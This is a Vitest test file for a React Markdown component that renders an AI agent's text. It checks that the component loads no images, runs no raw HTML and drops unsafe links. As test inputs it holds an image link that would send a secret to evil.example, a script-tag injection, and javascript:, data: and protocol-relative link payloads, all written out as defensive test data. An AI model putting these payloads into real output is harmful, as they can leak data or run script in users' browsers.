// What an agent's text can and cannot put on the page.
import { createElement } from "react"
import { renderToStaticMarkup } from "react-dom/server"
import { describe, expect, it } from "vitest"
import { Markdown } from "@/components/ui/markdown"

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }))

describe("Markdown", () => {
  it("never loads an image: it stands as words", () => {
    const html = render("![a plan](https://evil.example/pixel.png?secret=1)")
    expect(html).not.toContain("<img")
    expect(html).not.toContain("evil.example")
    expect(html).toContain("image: a plan")
  })

  it("runs no HTML of the text", () => {
    const html = render('before <script>alert(1)</script> <img src="https://evil.example/x"> after')
    expect(html).not.toMatch(/<script|<img/)
  })

  it("opens links apart, without a way back, and names their host", () => {
    const html = render("[the portal](https://etender.example.org/x)")
    expect(html).toContain('href="https://etender.example.org/x"')
    expect(html).toContain('target="_blank"')
    expect(html).toMatch(/rel="[^"]*noopener[^"]*"/)
    expect(html).toContain("(etender.example.org)")
  })

  it.each(["/bids/1", "javascript:alert(1)", "data:text/html,x", "//evil.example/x", "mailto:a@b.example"])(
    "leaves no link for %s",
    (href) => {
      const html = render(`[words](${href})`)
      expect(html).not.toContain("href")
      expect(html).toContain("words")
    },
  )

  it("shows tables, and code with a way to copy it", () => {
    const html = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nlet x = 1\n```")
    expect(html).toContain("<table")
    expect(html).toContain("Copy code")
    expect(html).toContain("let x = 1")
  })

  it("shows text that is cut in the middle of a table or a fence", () => {
    expect(render("| a | b |\n|---|")).toContain("a")
    expect(render("```js\nlet y")).toContain("let y")
  })
})
